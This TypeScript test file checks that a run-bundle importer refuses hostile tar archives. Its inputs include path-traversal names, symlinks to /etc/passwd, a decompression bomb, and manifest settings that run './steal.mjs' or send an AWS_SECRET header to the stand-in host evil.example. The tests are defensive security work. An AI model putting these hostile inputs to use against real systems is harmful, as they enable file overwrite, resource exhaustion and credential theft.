import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { deflateRawSync } from 'node:zlib';
import fc from 'fast-check';
import { extract, type Headers, pack } from 'tar-stream';
import { beforeAll, describe, expect, it, onTestFinished } from 'vitest';
import { exportRun } from '../../../src/runs/bundle/export.js';
import { importRun } from '../../../src/runs/bundle/import.js';
import { isInside } from '../../../src/runs/bundle/names.js';
import { digest } from '../../../src/support/digest.js';
import { UserError } from '../../../src/support/errors.js';
import { required } from '../../../src/support/required.js';
import { newTinyFolder, tinyRun } from '../tiny-run.js';

interface Part {
  readonly name: string;
  readonly bytes: Buffer;
  readonly header?: Headers;
}

let root: string;
let parts: readonly Part[];

beforeAll(async () => {
  root = newTinyFolder();
  const { folder } = await tinyRun(root, 'run', { steps: 2, evaluate: { every: 2 } });
  await exportRun(folder, { to: join(root, 'run.tar') });
  parts = await partsOf(readFileSync(join(root, 'run.tar')));
  return () => rmSync(root, { recursive: true });
});

async function partsOf(bytes: Buffer): Promise<Part[]> {
  const from = extract();
  from.end(bytes);
  const found: Part[] = [];
  for await (const entry of from) {
    const content: Buffer[] = [];
    for await (const part of entry) content.push(part);
    found.push({ name: entry.header.name, bytes: Buffer.concat(content) });
  }
  return found;
}

const sha = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex');

/** A bundle of these entries, with the digests and the end that an export would have written of them. */
async function bundleOf(entries: readonly Part[], end = endOf(entries)): Promise<Buffer> {
  const to = pack();
  const chunks: Buffer[] = [];
  to.on('data', (chunk: Buffer) => chunks.push(chunk));
  for (const { name, bytes, header } of [...entries.filter(({ name }) => name !== 'end.json'), ...end])
    to.entry({ name, size: bytes.length, pax: { comment: `sha256 ${sha(bytes)}` }, ...header } as Headers, bytes);
  to.finalize();
  await new Promise((resolve) => to.once('end', resolve));
  return Buffer.concat(chunks);
}

function endOf(entries: readonly Part[]): Part[] {
  const others = entries.filter(({ name }) => name !== 'end.json');
  const { records } = JSON.parse(required(parts.at(-1), 'end').bytes.toString());
  const names = digest(...others.flatMap(({ name, bytes }) => [name, sha(bytes)]));
  return [{ name: 'end.json', bytes: Buffer.from(JSON.stringify({ entries: others.length, names, records })) }];
}

/** Entries with one replaced by others. */
const replacing = (name: string, by: (part: Part) => readonly Part[]): Part[] =>
  parts.flatMap((part) => (part.name === name ? by(part) : [part]));

const withJson = (name: string, change: (value: Record<string, unknown>) => unknown): Part[] =>
  replacing(name, ({ bytes }) => [{ name, bytes: Buffer.from(JSON.stringify(change(JSON.parse(bytes.toString())))) }]);

/** What is in the folder around an import, besides the bundle. */
const around = (folder: string) => readdirSync(folder, { recursive: true }).map(String).sort();

/** Imports a bundle into a folder of its own; the result and what is there afterwards. */
async function imported(bytes: Buffer, options = {}) {
  const place = mkdtempSync(join(tmpdir(), 'rlsd-hostile-'));
  try {
    writeFileSync(join(place, 'b.tar'), bytes);
    const outcome = await importRun(join(place, 'b.tar'), join(place, 'deep', 'run'), options).then(
      () => 'imported',
      (error: unknown) => error,
    );
    return { outcome, left: around(place) };
  } finally {
    rmSync(place, { recursive: true });
  }
}

async function refused(entries: readonly Part[], message: RegExp, end?: Part[]) {
  const { outcome, left } = await imported(await bundleOf(entries, end));
  expect(outcome).toBeInstanceOf(UserError);
  expect(String(outcome)).toMatch(message);
  expect(left).toEqual(['b.tar']);
}

it('a bundle that is packed again as it was is imported', async () => {
  expect((await imported(await bundleOf(parts))).outcome).toBe('imported');
});

describe('a bundle writes nothing outside its folder', () => {
  const bytes = Buffer.from('x');
  const outside = [
    '../out',
    '/tmp/rlsd-out',
    'inputs/../../out',
    'inputs\\..\\..\\out',
    'C:/out',
    'inputs/a\0b',
    'inputs//a',
  ];
  it.each(outside)('with an entry called %j', (name) =>
    refused([...parts, { name, bytes }], /expected only regular files/),
  );

  it.each(['files/manifest.json', 'files/topics/data.mdb', 'files/weights/v000001/a/b', 'files/weights/x/a', 'readme'])(
    'with an entry called %s, which no export writes',
    (name) => refused([...parts, { name, bytes }], /unexpected entry/),
  );

  it.each(['symlink', 'link', 'directory', 'fifo', 'character-device'])('with a %s', (type) =>
    refused(
      [...parts, { name: 'inputs/a', bytes: Buffer.alloc(0), header: { type, linkname: '/etc/passwd' } as Headers }],
      /expected only regular files/,
    ),
  );

  it.each(['../..', '/tmp', 'a/../../b', '..\\..', 'C:\\', 'a\0'])('with the folder %j in its index', (folder) =>
    refused(
      withJson('bundle.json', (index) => ({ ...index, folder })),
      /bundle\.json\.folder/,
    ),
  );

  it('with a name that is twice in it', () =>
    refused([...parts, ...parts.filter(({ name }) => name.startsWith('inputs/'))], /inputs\/.*: found twice/));

  it('with a name that is a file and a folder', () =>
    refused([...parts, { name: 'inputs/sums.jsonl/a', bytes }], /found in the place of another entry/));

  it('for any name', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom('..', '.', 'a', '', '/', '\\', 'C:', '\0', '...')), (words) => {
        const name = words.join('/');
        if (!isInside(name)) return;
        expect(join('/run', name).startsWith('/run/')).toBe(true);
        expect(name).not.toMatch(/[\\\0]/);
      }),
    );
  });
});

describe('a bundle that was changed, with digests to match', () => {
  const segments = () => parts.filter(({ name }) => /^topics\/rollouts\//.test(name));
  const first = () => required(segments()[0], 'segment');

  it('lacks a segment', () =>
    refused(
      replacing(first().name, () => []),
      /topic rollouts: found 0 records, expected 16/,
    ));
  it('lacks a segment and its count', () => {
    const entries = replacing(first().name, () => []);
    const [end] = endOf(entries);
    const said = JSON.parse(required(end, 'end').bytes.toString());
    const records = { ...said.records, rollouts: 0 };
    const now = [{ name: 'end.json', bytes: Buffer.from(JSON.stringify({ ...said, records })) }];
    return refused(entries, /topic rollouts, partition 0: found records up to offset 0, expected 16/, now);
  });
  it('has a segment twice', () =>
    refused(
      replacing(first().name, (part) => [part, part]),
      /topics\/rollouts.*: found twice/,
    ));
  it('has a segment under another offset', () =>
    refused(
      replacing(first().name, (part) => [{ ...part, name: 'topics/rollouts/0/00000000000000000004.avro' }]),
      /begins with offset 0/,
    ));
  it('has the segments of two topics swapped', () => {
    const [one, two] = ['topics/rollouts/0/', 'topics/verdicts/0/'].map((prefix) =>
      required(
        parts.find(({ name }) => name.startsWith(prefix)),
        prefix,
      ),
    );
    if (!one || !two) throw new Error('expected two segments');
    const swapped = parts.map((part) => {
      if (part === one) return { ...part, bytes: two.bytes };
      return part === two ? { ...part, bytes: one.bytes } : part;
    });
    return refused(swapped, /a schema that topic (rollouts|verdicts) never had|cannot be read/);
  });
  it('has its topics in another order', () => {
    const moved = [...parts.filter((part) => part !== first())];
    moved.splice(2, 0, first());
    return refused(moved, /found after those of/);
  });
  it('has a segment that is cut off', () =>
    refused(
      replacing(first().name, (part) => [{ ...part, bytes: part.bytes.subarray(0, part.bytes.length - 40) }]),
      /is damaged/,
    ));
  it('has other weights than its records', () =>
    refused(
      replacing('files/weights/v000002/model.safetensors', (part) => {
        const bytes = Buffer.from(part.bytes);
        bytes.writeUInt8(bytes.readUInt8(bytes.length - 1) ^ 1, bytes.length - 1);
        return [{ ...part, bytes }];
      }),
      /files\/weights\/v000002: found weights with SHA-256/,
    ));
  it('has the manifest of another run', () =>
    refused(
      withJson('manifest.json', (manifest) => ({ ...manifest, run: 'other' })),
      /found run other, expected tiny/,
    ));
  it('has no manifest', () =>
    refused(
      replacing('manifest.json', () => []),
      /expected manifest\.json/,
    ));
});

describe('a bundle takes no more than an export needs', () => {
  it.each([
    ['partitions', 4_000_000],
    ['partitions', 9],
    ['bounds', [{ start: '5', end: '2' }]],
    ['bounds', [{ start: '0', end: '99999999999999999999' }]],
    ['name', '../rollouts'],
  ])('with %s %j', (field, value) =>
    refused(
      withJson('bundle.json', (index) => ({
        ...index,
        topics: (index.topics as object[]).map((topic, i) => (i === 0 ? { ...topic, [field]: value } : topic)),
      })),
      /bundle\.json\.topics/,
    ),
  );

  it('with a segment that inflates to gigabytes', async () => {
    const segment = required(
      parts.find(({ name }) => name.startsWith('topics/rollouts/')),
      'segment',
    );
    const sync = Buffer.alloc(16);
    const begin = segment.bytes.indexOf(sync) + sync.length;
    const bomb = deflateRawSync(Buffer.alloc(256 << 20));
    const block = Buffer.concat([long(1000n), long(BigInt(bomb.length)), bomb, sync]);
    const bytes = Buffer.concat([segment.bytes.subarray(0, begin), ...Array.from({ length: 8 }, () => block)]);
    const before = process.memoryUsage().rss;
    await refused(
      replacing(segment.name, (part) => [{ ...part, bytes }]),
      /is damaged.*after topics\/rollouts/s,
    );
    expect(process.memoryUsage().rss - before).toBeLessThan(512 << 20);
  });
});

/** Avro's zigzag encoding. */
function long(value: bigint): Buffer {
  const bytes: number[] = [];
  for (let left = value * 2n; ; left >>= 7n) {
    if (left < 128n) return Buffer.from([...bytes, Number(left)]);
    bytes.push(Number(left & 127n) | 128);
  }
}

describe('what the pipeline of a bundle would do here', () => {
  const spec = (change: object) =>
    withJson('manifest.json', (manifest) => ({ ...manifest, spec: { ...(manifest.spec as object), ...change } }));

  it.each([
    [{ transform: { rollouts: ['./steal.mjs'] } }, 'transform.rollouts: runs ./steal.mjs'],
    [{ verify: { module: 'judge.mjs' } }, 'verify.module: runs judge.mjs'],
    [{ shape: { module: 'method.mjs' } }, 'shape.module: runs method.mjs'],
    [{ model: { base: 'model', engine: { module: '/opt/e.mjs' } } }, 'model.engine.module: runs /opt/e.mjs'],
    [{ prompts: { module: 'p.mjs' } }, 'prompts.module: runs p.mjs'],
    [
      { verify: { http: { url: 'https://evil.example/judge', headers: { Authorization: { env: 'AWS_SECRET' } } } } },
      'verify.http.url: asks https://evil.example/judge\n  verify.http.headers.Authorization: reads the variable AWS_SECRET',
    ],
    [{ verify: { module: 'judge.mjs', key: `x $\{AWS_SECRET}` } }, `verify.key: reads x $\{AWS_SECRET}`],
  ])('is said, and asked for: %j', async (change, line) => {
    const bytes = await bundleOf(spec(change));
    const { outcome, left } = await imported(bytes);
    expect(outcome).toMatchObject({ code: 'untrusted', message: expect.stringContaining(`  ${line}\n`) });
    expect(left).toEqual(['b.tar']);
    expect((await imported(bytes, { trust: true })).outcome).toBe('imported');
  });
});

it('any change to a bundle is refused or leads to the same run, and leaves nothing else behind', async () => {
  const whole = await bundleOf(parts);
  const change = fc.record({
    at: fc.nat(whole.length - 1),
    kind: fc.constantFrom('flip', 'cut', 'repeat', 'drop'),
    size: fc.integer({ min: 1, max: 2048 }),
    bits: fc.integer({ min: 1, max: 255 }),
  });
  await fc.assert(
    fc.asyncProperty(change, async ({ at, kind, size, bits }) => {
      const bytes = mutated(whole, { at, kind, size, bits });
      const { outcome, left } = await imported(bytes);
      if (outcome === 'imported') return;
      expect(outcome).toBeInstanceOf(UserError);
      expect(String(outcome)).not.toMatch(/undefined|\[object/);
      expect(left).toEqual(['b.tar']);
    }),
    { numRuns: 60 },
  );
  expect(existsSync('/tmp/rlsd-out')).toBe(false);
});

function mutated(whole: Buffer, { at, kind, size, bits }: { at: number; kind: string; size: number; bits: number }) {
  if (kind === 'cut') return whole.subarray(0, at);
  if (kind === 'drop') return Buffer.concat([whole.subarray(0, at), whole.subarray(at + size)]);
  if (kind === 'repeat') return Buffer.concat([whole.subarray(0, at + size), whole.subarray(at)]);
  const bytes = Buffer.from(whole);
  bytes.writeUInt8(bytes.readUInt8(at) ^ bits, at);
  return bytes;
}

it('an import that is stopped, and one that follows another which was killed, leave nothing behind', async () => {
  const folder = mkdtempSync(join(tmpdir(), 'rlsd-stopped-'));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  const file = join(folder, 'b.tar');
  writeFileSync(file, await bundleOf(parts));
  const stopped = importRun(file, join(folder, 'run'), { signal: AbortSignal.abort() });
  await expect(stopped).rejects.toMatchObject({
    code: 'stopped',
    message: expect.stringMatching(/nothing was imported$/),
  });
  expect(readdirSync(folder)).toEqual(['b.tar']);

  // No process has this id, and this one runs.
  const [gone, running] = ['run.4194305.partial', `run.${process.ppid}.partial`];
  for (const name of [gone, running, 'other.4194305.partial'])
    mkdirSync(join(folder, name, 'topics'), { recursive: true });
  await importRun(file, join(folder, 'run'));
  expect(readdirSync(folder).sort()).toEqual(['b.tar', 'other.4194305.partial', 'run', running].sort());
});
